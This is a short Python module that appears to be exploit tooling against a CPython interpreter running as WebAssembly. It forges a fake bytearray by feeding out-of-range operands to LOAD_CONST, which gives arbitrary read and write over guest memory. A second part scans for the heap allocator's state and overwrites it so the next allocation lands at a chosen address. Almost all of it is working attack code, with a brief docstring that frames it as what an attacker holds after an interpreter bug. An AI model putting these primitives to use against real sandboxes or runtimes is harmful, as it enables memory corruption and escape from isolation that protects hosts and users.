"""A memory-write primitive for the guest, from nothing but Python: what an attacker has after the first interpreter bug.

CPython does not check the operands of bytecode. LOAD_CONST reads a pointer at `co_consts` + 12 + 4 * operand, so a code
object with an operand of our choice makes an object of any four bytes in memory: here of the address of a forged
bytearray, whose own buffer covers whatever we like. Addresses are those of 32-bit WebAssembly, headers are 8 bytes.
"""

FORGE = '''
import opcode, struct
held = []

def forge(address, size):
    """A bytearray whose bytes are the guest's memory from `address` on."""
    body = struct.pack("<IIiiIIi", 1 << 20, id(bytearray), size, size, address, address, 0)
    pointer = struct.pack("<I", id(body) + 16)
    held.append((body, pointer))

    def load(): return None

    def assemble(index):
        extended = b"".join(bytes([opcode.opmap["EXTENDED_ARG"], index >> shift & 255]) for shift in (24, 16, 8))
        return (bytes([opcode.opmap["RESUME"], 0]) + extended
                + bytes([opcode.opmap["LOAD_CONST"], index & 255, opcode.opmap["RETURN_VALUE"], 0]))

    code = load.__code__.replace(co_code=assemble(0))
    constants = code.co_consts
    code = code.replace(co_code=assemble((id(pointer) + 16 - (id(constants) + 12)) % 2**32 // 4))
    assert code.co_consts is constants
    load.__code__ = code
    return load()

def words(address, count):
    return memoryview(forge(address, 4 * count)).cast("I")
'''

POISON = '''
def find_heap(end):
    """Where static memory keeps the allocator's state: the size of the top chunk, then its address three words on."""
    memory = memoryview(forge(0, 0x7FFF_FFFC)).cast("I")
    for at in range(1 << 20, end // 4):
        size = memory[at]
        if size > 65536 and size % 8 == 0 and 1 << 20 < memory[at + 3] < end and memory[at + 3] % 8 == 0:
            if memory[memory[at + 3] // 4 + 1] == size | 1:
                return 4 * at - 12

def aim(heap, target, *, forget_free_chunks):
    """The next allocation that no free chunk fits begins 24 bytes below `target`."""
    state = words(heap, 8)
    if forget_free_chunks:
        state[0] = state[1] = state[2] = 0
    state[3], state[6] = 1 << 25, target - 24
    words(target - 24, 2)[1] = 1 << 25 | 1
'''
